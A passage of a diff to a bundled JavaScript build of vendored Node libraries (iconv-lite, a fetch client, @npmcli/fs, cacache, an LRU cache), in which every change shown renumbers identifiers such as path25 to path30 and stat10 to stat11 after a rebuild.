-      IconvLiteDecoderStream.prototype = Object.create(Transform2.prototype, {
+      IconvLiteDecoderStream.prototype = Object.create(Transform3.prototype, {
         constructor: { value: IconvLiteDecoderStream }
       });
       IconvLiteDecoderStream.prototype._transform = function(chunk, encoding, done) {
@@ -31594,10 +31597,10 @@ var require_lib2 = __commonJS({
     module.exports.encodings = null;
     module.exports.defaultCharUnicode = "\uFFFD";
     module.exports.defaultCharSingleByte = "?";
-    module.exports.encode = function encode(str3, encoding, options) {
-      str3 = "" + (str3 || "");
+    module.exports.encode = function encode(str4, encoding, options) {
+      str4 = "" + (str4 || "");
       var encoder = module.exports.getEncoder(encoding, options);
-      var res = encoder.write(str3);
+      var res = encoder.write(str4);
       var trail = encoder.end();
       return trail && trail.length > 0 ? Buffer2.concat([res, trail]) : res;
     };
@@ -31903,14 +31906,14 @@ var require_body = __commonJS({
       if (ct2) {
         res = /charset=([^;]*)/i.exec(ct2);
       }
-      const str3 = buffer.slice(0, 1024).toString();
-      if (!res && str3) {
-        res = /<meta.+?charset=(['"])(.+?)\1/i.exec(str3);
+      const str4 = buffer.slice(0, 1024).toString();
+      if (!res && str4) {
+        res = /<meta.+?charset=(['"])(.+?)\1/i.exec(str4);
       }
-      if (!res && str3) {
-        res = /<meta[\s]+?http-equiv=(['"])content-type\1[\s]+?content=(['"])(.+?)\2/i.exec(str3);
+      if (!res && str4) {
+        res = /<meta[\s]+?http-equiv=(['"])content-type\1[\s]+?content=(['"])(.+?)\2/i.exec(str4);
         if (!res) {
-          res = /<meta[\s]+?content=(['"])(.+?)\1[\s]+?http-equiv=(['"])content-type\3/i.exec(str3);
+          res = /<meta[\s]+?content=(['"])(.+?)\1[\s]+?http-equiv=(['"])content-type\3/i.exec(str4);
           if (res) {
             res.pop();
           }
@@ -31919,8 +31922,8 @@ var require_body = __commonJS({
           res = /charset=(.*)/i.exec(res.pop());
         }
       }
-      if (!res && str3) {
-        res = /<\?xml.+?encoding=(['"])(.+?)\1/i.exec(str3);
+      if (!res && str4) {
+        res = /<\?xml.+?encoding=(['"])(.+?)\1/i.exec(str4);
       }
       if (res) {
         charset = res.pop();
@@ -32570,7 +32573,7 @@ var require_lib3 = __commonJS({
     var { getNodeRequestOptions } = Request;
     var FetchError = require_fetch_error();
     var AbortError = require_abort_error();
-    var fetch = async (url, opts) => {
+    var fetch2 = async (url, opts) => {
       if (/^data:/.test(url)) {
         const request = new Request(url, opts);
         return Promise.resolve().then(() => new Promise((resolve, reject2) => {
@@ -32608,7 +32611,7 @@ var require_lib3 = __commonJS({
         } catch (er2) {
           return reject2(er2);
         }
-        const send = (options.protocol === "https:" ? https : http).request;
+        const send2 = (options.protocol === "https:" ? https : http).request;
         const { signal } = request;
         let response = null;
         const abort = () => {
@@ -32635,7 +32638,7 @@ var require_lib3 = __commonJS({
           }
           clearTimeout(reqTimeout);
         };
-        const req = send(options);
+        const req = send2(options);
         if (signal) {
           signal.addEventListener("abort", abortAndFinalize);
         }
@@ -32658,7 +32661,7 @@ var require_lib3 = __commonJS({
         req.on("response", (res) => {
           clearTimeout(reqTimeout);
           const headers = createHeadersLenient(res.headers);
-          if (fetch.isRedirect(res.statusCode)) {
+          if (fetch2.isRedirect(res.statusCode)) {
             const location = headers.get("Location");
             let locationURL = null;
             try {
@@ -32719,7 +32722,7 @@ var require_lib3 = __commonJS({
                 requestOpts.body = void 0;
                 requestOpts.headers.delete("content-length");
               }
-              resolve(fetch(new Request(locationURL, requestOpts)));
+              resolve(fetch2(new Request(locationURL, requestOpts)));
               finalize();
               return;
             }
@@ -32805,13 +32808,13 @@ var require_lib3 = __commonJS({
         writeToStream(req, request);
       });
     };
-    module.exports = fetch;
-    fetch.isRedirect = (code) => code === 301 || code === 302 || code === 303 || code === 307 || code === 308;
-    fetch.Headers = Headers;
-    fetch.Request = Request;
-    fetch.Response = Response;
-    fetch.FetchError = FetchError;
-    fetch.AbortError = AbortError;
+    module.exports = fetch2;
+    fetch2.isRedirect = (code) => code === 301 || code === 302 || code === 303 || code === 307 || code === 308;
+    fetch2.Headers = Headers;
+    fetch2.Request = Request;
+    fetch2.Response = Response;
+    fetch2.FetchError = FetchError;
+    fetch2.AbortError = AbortError;
   }
 });
 
@@ -33630,9 +33633,9 @@ var require_dist6 = __commonJS({
       }
       return { type, index, parameters };
     }
-    function skipValue(str3, index, len, stopChar) {
+    function skipValue(str4, index, len, stopChar) {
       while (index < len) {
-        const code = str3.charCodeAt(index);
+        const code = str4.charCodeAt(index);
         if (code === SEMI || code === stopChar)
           break;
         index++;
@@ -33657,12 +33660,12 @@ var require_dist6 = __commonJS({
       }
       return end;
     }
-    function qstring(str3) {
-      if (TOKEN_REGEXP.test(str3))
-        return str3;
-      if (TEXT_REGEXP.test(str3))
-        return `"${str3.replace(QUOTE_REGEXP, "\\$&")}"`;
-      throw new TypeError(`Invalid parameter value: ${str3}`);
+    function qstring(str4) {
+      if (TOKEN_REGEXP.test(str4))
+        return str4;
+      if (TEXT_REGEXP.test(str4))
+        return `"${str4.replace(QUOTE_REGEXP, "\\$&")}"`;
+      throw new TypeError(`Invalid parameter value: ${str4}`);
     }
   }
 });
@@ -36161,11 +36164,11 @@ var require_polyfill = __commonJS({
     var {
       chmod,
       copyFile: copyFile2,
-      lstat: lstat6,
-      mkdir: mkdir6,
-      readdir,
+      lstat: lstat7,
+      mkdir: mkdir7,
+      readdir: readdir2,
       readlink,
-      stat: stat10,
+      stat: stat11,
       symlink: symlink2,
       unlink: unlink6,
       utimes
@@ -36199,8 +36202,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path25 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
-      return path25;
+      const path30 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path30;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -36257,7 +36260,7 @@ var require_polyfill = __commonJS({
       return destStat.ino && destStat.dev && destStat.ino === srcStat.ino && destStat.dev === srcStat.dev;
     }
     function getStats(src, dest, opts) {
-      const statFunc = opts.dereference ? (file) => stat10(file, { bigint: true }) : (file) => lstat6(file, { bigint: true });
+      const statFunc = opts.dereference ? (file) => stat11(file, { bigint: true }) : (file) => lstat7(file, { bigint: true });
       return Promise.all([
         statFunc(src),
         statFunc(dest).catch((err) => {
@@ -36274,11 +36277,11 @@ var require_polyfill = __commonJS({
       if (dirExists) {
         return getStatsForCopy(destStat, src, dest, opts);
       }
-      await mkdir6(destParent, { recursive: true });
+      await mkdir7(destParent, { recursive: true });
       return getStatsForCopy(destStat, src, dest, opts);
     }
     function pathExists(dest) {
-      return stat10(dest).then(
+      return stat11(dest).then(
         () => true,
         // istanbul ignore next: not sure when this would occur
         (err) => err.code === "ENOENT" ? false : Promise.reject(err)
@@ -36292,7 +36295,7 @@ var require_polyfill = __commonJS({
       }
       let destStat;
       try {
-        destStat = await stat10(destParent, { bigint: true });
+        destStat = await stat11(destParent, { bigint: true });
       } catch (err) {
         if (err.code === "ENOENT") {
           return;
@@ -36309,7 +36312,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path25) => resolve(path25).split(sep).filter(Boolean);
+    var normalizePathToArray = (path30) => resolve(path30).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -36328,7 +36331,7 @@ var require_polyfill = __commonJS({
       return getStatsForCopy(destStat, src, dest, opts);
     }
     async function getStatsForCopy(destStat, src, dest, opts) {
-      const statFn = opts.dereference ? stat10 : lstat6;
+      const statFn = opts.dereference ? stat11 : lstat7;
       const srcStat = await statFn(src);
       if (srcStat.isDirectory() && opts.recursive) {
         return onDir(srcStat, destStat, src, dest, opts);
@@ -36412,7 +36415,7 @@ var require_polyfill = __commonJS({
       return chmod(dest, srcMode);
     }
     async function setDestTimestamps(src, dest) {
-      const updatedSrcStat = await stat10(src);
+      const updatedSrcStat = await stat11(src);
       return utimes(dest, updatedSrcStat.atime, updatedSrcStat.mtime);
     }
     function onDir(srcStat, destStat, src, dest, opts) {
@@ -36422,12 +36425,12 @@ var require_polyfill = __commonJS({
       return copyDir(src, dest, opts);
     }
     async function mkDirAndCopy(srcMode, src, dest, opts) {
-      await mkdir6(dest);
+      await mkdir7(dest);
       await copyDir(src, dest, opts);
       return setDestMode(dest, srcMode);
     }
     async function copyDir(src, dest, opts) {
-      const dir = await readdir(src);
+      const dir = await readdir2(src);
       for (let i = 0; i < dir.length; i++) {
         const item = dir[i];
         const srcItem = join2(src, item);
@@ -36464,7 +36467,7 @@ var require_polyfill = __commonJS({
           errno: EINVAL
         });
       }
-      const srcStat = await stat10(src);
+      const srcStat = await stat11(src);
       if (srcStat.isDirectory() && isSrcSubdir(resolvedDest, resolvedSrc)) {
         throw new ERR_FS_CP_SYMLINK_TO_SUBDIRECTORY({
           message: `cannot overwrite ${resolvedDest} with ${resolvedSrc}`,
@@ -36506,13 +36509,13 @@ var require_with_temp_dir = __commonJS({
   "node_modules/@npmcli/fs/lib/with-temp-dir.js"(exports, module) {
     var { join: join2, sep } = __require("path");
     var getOptions = require_get_options();
-    var { mkdir: mkdir6, mkdtemp: mkdtemp3, rm: rm4 } = __require("fs/promises");
+    var { mkdir: mkdir7, mkdtemp: mkdtemp4, rm: rm5 } = __require("fs/promises");
     var withTempDir = async (root, fn, opts) => {
       const options = getOptions(opts, {
         copy: ["tmpPrefix"]
       });
-      await mkdir6(root, { recursive: true });
-      const target = await mkdtemp3(join2(`${root}${sep}`, options.tmpPrefix || ""));
+      await mkdir7(root, { recursive: true });
+      const target = await mkdtemp4(join2(`${root}${sep}`, options.tmpPrefix || ""));
       let err;
       let result;
       try {
@@ -36521,7 +36524,7 @@ var require_with_temp_dir = __commonJS({
         err = _err;
       }
       try {
-        await rm4(target, { force: true, recursive: true });
+        await rm5(target, { force: true, recursive: true });
       } catch {
       }
       if (err) {
@@ -36536,13 +36539,13 @@ var require_with_temp_dir = __commonJS({
 // node_modules/@npmcli/fs/lib/readdir-scoped.js
 var require_readdir_scoped = __commonJS({
   "node_modules/@npmcli/fs/lib/readdir-scoped.js"(exports, module) {
-    var { readdir } = __require("fs/promises");
+    var { readdir: readdir2 } = __require("fs/promises");
     var { join: join2 } = __require("path");
     var readdirScoped = async (dir) => {
       const results = [];
-      for (const item of await readdir(dir)) {
+      for (const item of await readdir2(dir)) {
         if (item.startsWith("@")) {
-          for (const scopedItem of await readdir(join2(dir, item))) {
+          for (const scopedItem of await readdir2(join2(dir, item))) {
             results.push(join2(item, scopedItem));
           }
         } else {
@@ -36560,9 +36563,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path25) => {
+    var pathExists = async (path30) => {
       try {
-        await fs2.access(path25);
+        await fs2.access(path30);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -36650,17 +36653,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path25 = __require("path");
+    var path30 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path25.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path30.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path25.join(cache, "tmp");
+      const tmpDir = path30.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path25.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path30.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -36669,7 +36672,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path25.join(cache, "tmp"), cb, opts);
+      return withTempDir(path30.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -36778,12 +36781,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path25 = __require("path");
+    var path30 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path25.join(
+      return path30.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -36791,7 +36794,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path25.join(cache, `content-v${contentVer}`);
+      return path30.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -37255,14 +37258,14 @@ var require_entry_index = __commonJS({
     var crypto = __require("crypto");
     var {
       appendFile: appendFile2,
-      mkdir: mkdir6,
+      mkdir: mkdir7,
       readFile: readFile2,
-      readdir,
-      rm: rm4,
+      readdir: readdir2,
+      rm: rm5,
       writeFile: writeFile5
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path25 = __require("path");
+    var path30 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -37299,7 +37302,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path25.dirname(target), { recursive: true });
+        await mkdir7(path30.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -37307,12 +37310,12 @@ var require_entry_index = __commonJS({
       };
       const teardown = async (tmp2) => {
         if (!tmp2.moved) {
-          return rm4(tmp2.target, { recursive: true, force: true });
+          return rm5(tmp2.target, { recursive: true, force: true });
         }
       };
       const write = async (tmp2) => {
         await writeFile5(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir7(path30.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -37336,7 +37339,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir7(path30.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -37374,7 +37377,7 @@ ${hashEntry(stringified)}	${stringified}`);
         return insert(cache, key, null, opts);
       }
       const bucket = bucketPath(cache, key);
-      return rm4(bucket, { recursive: true, force: true });
+      return rm5(bucket, { recursive: true, force: true });
     }
     module.exports.lsStream = lsStream;
     function lsStream(cache) {
@@ -37386,17 +37389,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path25.join(indexDir, bucket);
+            const bucketPath2 = path30.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path25.join(bucketPath2, subbucket);
+                const subbucketPath = path30.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path25.join(subbucketPath, entry);
+                    const entryPath = path30.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -37465,13 +37468,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path25.join(cache, `index-v${indexV}`);
+      return path30.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path25.join.apply(
-        path25,
+      return path30.join.apply(
+        path30,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -37480,11 +37483,11 @@ ${hashEntry(stringified)}	${stringified}`);
       return hash(key, "sha256");
     }
     module.exports.hashEntry = hashEntry;
-    function hashEntry(str3) {
-      return hash(str3, "sha1");
+    function hashEntry(str4) {
+      return hash(str4, "sha1");
     }
-    function hash(str3, digest) {
-      return crypto.createHash(digest).update(str3).digest("hex");
+    function hash(str4, digest) {
+      return crypto.createHash(digest).update(str4).digest("hex");
     }
     function formatEntry(cache, entry, keepAll) {
       if (!entry.integrity && !keepAll) {
@@ -37500,7 +37503,7 @@ ${hashEntry(stringified)}	${stringified}`);
       };
     }
     function readdirOrEmpty(dir) {
-      return readdir(dir).catch((err) => {
+      return readdir2(dir).catch((err) => {
         if (err.code === "ENOENT" || err.code === "ENOTDIR") {
           return [];
         }
@@ -38217,17 +38220,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path25, opt) {
+      constructor(path30, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path25 !== "string") {
+        if (typeof path30 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path25;
+        this[_path] = path30;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -38373,7 +38376,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path25, opt) {
+      constructor(path30, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -38383,7 +38386,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path25;
+        this[_path] = path30;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -38580,16 +38583,16 @@ var require_read = __commonJS({
     var MAX_SINGLE_READ_SIZE = 64 * 1024 * 1024;
     async function read(cache, integrity, opts = {}) {
       const { size } = opts;
-      const { stat: stat10, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
-        const stat11 = size ? { size } : await fs2.stat(cpath2);
-        return { stat: stat11, cpath: cpath2, sri: sri2 };
+      const { stat: stat11, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
+        const stat12 = size ? { size } : await fs2.stat(cpath2);
+        return { stat: stat12, cpath: cpath2, sri: sri2 };
       });
-      if (stat10.size > MAX_SINGLE_READ_SIZE) {
-        return readPipeline(cpath, stat10.size, sri, new Pipeline()).concat();
+      if (stat11.size > MAX_SINGLE_READ_SIZE) {
+        return readPipeline(cpath, stat11.size, sri, new Pipeline()).concat();
       }
       const data = await fs2.readFile(cpath, { encoding: null });
-      if (stat10.size !== data.length) {
-        throw sizeError(stat10.size, data.length);
+      if (stat11.size !== data.length) {
+        throw sizeError(stat11.size, data.length);
       }
       if (!ssri.checkData(data, sri)) {
         throw integrityError(sri, cpath);
@@ -38615,11 +38618,11 @@ var require_read = __commonJS({
       const { size } = opts;
       const stream = new Pipeline();
       Promise.resolve().then(async () => {
-        const { stat: stat10, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
-          const stat11 = size ? { size } : await fs2.stat(cpath2);
-          return { stat: stat11, cpath: cpath2, sri: sri2 };
+        const { stat: stat11, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
+          const stat12 = size ? { size } : await fs2.stat(cpath2);
+          return { stat: stat12, cpath: cpath2, sri: sri2 };
         });
-        return readPipeline(cpath, stat10.size, sri, stream);
+        return readPipeline(cpath, stat11.size, sri, stream);
       }).catch((err) => stream.emit("error", err));
       return stream;
     }
@@ -38636,8 +38639,8 @@ var require_read = __commonJS({
       }
       try {
         return await withContentSri(cache, integrity, async (cpath, sri) => {
-          const stat10 = await fs2.stat(cpath);
-          return { size: stat10.size, sri, stat: stat10 };
+          const stat11 = await fs2.stat(cpath);
+          return { size: stat11.size, sri, stat: stat11 };
         });
       } catch (err) {
         if (err.code === "ENOENT") {
@@ -38691,11 +38694,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path25) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path25})`);
+    function integrityError(sri, path30) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path30})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path25;
+      err.path = path30;
       return err;
     }
   }
@@ -38863,7 +38866,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path25 = __require("path");
+    var path30 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -38977,13 +38980,13 @@ var require_write = __commonJS({
       hashStream.on("size", (s3) => {
         size = s3;
       });
-      const pipeline = new Pipeline(inputStream, hashStream, outStream);
-      await pipeline.promise();
+      const pipeline2 = new Pipeline(inputStream, hashStream, outStream);
+      await pipeline2.promise();
       return { integrity, size };
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path25.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path30.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -38991,7 +38994,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path25.dirname(destination);
+      const destDir = path30.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -39063,12 +39066,12 @@ var require_put = __commonJS({
       let size;
       let error;
       let memoData;
-      const pipeline = new Pipeline();
+      const pipeline2 = new Pipeline();
       if (memoize) {
         const memoizer = new PassThrough().on("collect", (data) => {
           memoData = data;
         });
-        pipeline.push(memoizer);
+        pipeline2.push(memoizer);
       }
       const contentStream = write.stream(cache, opts).on("integrity", (int) => {
         integrity = int;
@@ -39077,20 +39080,20 @@ var require_put = __commonJS({
       }).on("error", (err) => {
         error = err;
       });
-      pipeline.push(contentStream);
-      pipeline.push(new Flush({
+      pipeline2.push(contentStream);
+      pipeline2.push(new Flush({
         async flush() {
           if (!error) {
             const entry = await index.insert(cache, key, integrity, { ...opts, size });
             if (memoize && memoData) {
               memo.put(cache, entry, memoData, opts);
             }
-            pipeline.emit("integrity", integrity);
-            pipeline.emit("size", size);
+            pipeline2.emit("integrity", integrity);
+            pipeline2.emit("size", size);
           }
         }
       }));
-      return pipeline;
+      return pipeline2;
     }
   }
 });
@@ -39880,9 +39883,9 @@ globstar while`, t, d, e, u2, m2), this.matchOne(t.slice(d), e.slice(u2), s3)) r
       Wt2.LRUCache = void 0;
       var er2 = typeof performance == "object" && performance && typeof performance.now == "function" ? performance : Date, as2 = /* @__PURE__ */ new Set(), ge2 = typeof process == "object" && process ? process : {}, ls2 = (n, t, e, s3) => {
         typeof ge2.emitWarning == "function" ? ge2.emitWarning(n, t, e, s3) : console.error(`[${e}] ${t}: ${n}`);
-      }, Lt2 = globalThis.AbortController, os8 = globalThis.AbortSignal;
+      }, Lt2 = globalThis.AbortController, os10 = globalThis.AbortSignal;
       if (typeof Lt2 > "u") {
-        os8 = class {
+        os10 = class {
           onabort;
           _onabort = [];
           reason;
@@ -39894,7 +39897,7 @@ globstar while`, t, d, e, u2, m2), this.matchOne(t.slice(d), e.slice(u2), s3)) r
           constructor() {
             t();
           }
-          signal = new os8();
+          signal = new os10();
           abort(e) {
             if (!this.signal.aborted) {
               this.signal.reason = e, this.signal.aborted = true;
@@ -42125,9 +42128,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path25 = __require("path");
-    var globify = (pattern) => pattern.split(path25.win32.sep).join(path25.posix.sep);
-    module.exports = (path26, options) => glob(globify(path26), options);
+    var path30 = __require("path");
+    var globify = (pattern) => pattern.split(path30.win32.sep).join(path30.posix.sep);
+    module.exports = (path31, options) => glob(globify(path31), options);
   }
 });
 
@@ -42138,8 +42141,8 @@ var require_rm = __commonJS({
     var fs2 = __require("fs/promises");
     var contentPath = require_path();
     var { hasContent } = require_read();
-    module.exports = rm4;
-    async function rm4(cache, integrity) {
+    module.exports = rm5;
+    async function rm5(cache, integrity) {
       const content = await hasContent(cache, integrity);
       if (content && content.sri) {
         await fs2.rm(contentPath(cache, content.sri), { recursive: true, force: true });
@@ -42155,11 +42158,11 @@ var require_rm = __commonJS({
 var require_rm2 = __commonJS({
   "node_modules/cacache/lib/rm.js"(exports, module) {
     "use strict";
-    var { rm: rm4 } = __require("fs/promises");
+    var { rm: rm5 } = __require("fs/promises");
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path25 = __require("path");
+    var path30 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -42175,8 +42178,8 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path25.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
-      return Promise.all(paths.map((p2) => rm4(p2, { recursive: true, force: true })));
+      const paths = await glob(path30.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      return Promise.all(paths.map((p2) => rm5(p2, { recursive: true, force: true })));
     }
   }
 });
@@ -42186,10 +42189,10 @@ var require_verify2 = __commonJS({
   "node_modules/cacache/lib/verify.js"(exports, module) {
     "use strict";
     var {
-      mkdir: mkdir6,
+      mkdir: mkdir7,
       readFile: readFile2,
-      rm: rm4,
-      stat: stat10,
+      rm: rm5,
+      stat: stat11,
       truncate,
       writeFile: writeFile5
     } = __require("fs/promises");
@@ -42197,7 +42200,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path25 = __require("path");
+    var path30 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -42253,7 +42256,7 @@ var require_verify2 = __commonJS({
     }
     async function fixPerms(cache, opts) {
       opts.log.silly("verify", "fixing cache permissions");
-      await mkdir6(cache, { recursive: true });
+      await mkdir7(cache, { recursive: true });
       return null;
     }
     async function garbageCollect(cache, opts) {
@@ -42274,7 +42277,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path25.join(contentDir, "**"), {
+      const files = await glob(path30.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -42305,8 +42308,8 @@ var require_verify2 = __commonJS({
             }
           } else {
             stats.reclaimedCount++;
-            const s3 = await stat10(f2);
-            await rm4(f2, { recursive: true, force: true });
+            const s3 = await stat11(f2);
+            await rm5(f2, { recursive: true, force: true });
             stats.reclaimedSize += s3.size;
           }
           return stats;
@@ -42318,7 +42321,7 @@ var require_verify2 = __commonJS({
     async function verifyContent(filepath, sri) {
       const contentInfo = {};
       try {
-        const { size } = await stat10(filepath);
+        const { size } = await stat11(filepath);
         contentInfo.size = size;
         contentInfo.valid = true;
         await ssri.checkStream(new fsm.ReadStream(filepath), sri);
@@ -42329,7 +42332,7 @@ var require_verify2 = __commonJS({
         if (err.code !== "EINTEGRITY") {
           throw err;
         }
-        await rm4(filepath, { recursive: true, force: true });
+        await rm5(filepath, { recursive: true, force: true });
         contentInfo.valid = false;
       }
       return contentInfo;
@@ -42376,7 +42379,7 @@ var require_verify2 = __commonJS({
       for (const entry of bucket) {
         const content = contentPath(cache, entry.integrity);
         try {
-          await stat10(content);
+          await stat11(content);
           await index.insert(cache, entry.key, entry.integrity, {
             metadata: entry.metadata,
             size: entry.size,
@@ -42395,16 +42398,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm4(path25.join(cache, "tmp"), { recursive: true, force: true });
+      return rm5(path30.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path25.join(cache, "_lastverified");
+      const verifile = path30.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile5(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile2(path25.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile2(path30.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -42416,7 +42419,7 @@ var require_lib7 = __commonJS({
     "use strict";
     var get = require_get();
     var put = require_put();
-    var rm4 = require_rm2();
+    var rm5 = require_rm2();
     var verify = require_verify2();
     var { clearMemoized } = require_memoization();
     var tmp = require_tmp();
@@ -42436,10 +42439,10 @@ var require_lib7 = __commonJS({
     module.exports.get.hasContent = get.hasContent;
     module.exports.put = put;
     module.exports.put.stream = put.stream;
-    module.exports.rm = rm4.entry;
-    module.exports.rm.all = rm4.all;
+    module.exports.rm = rm5.entry;
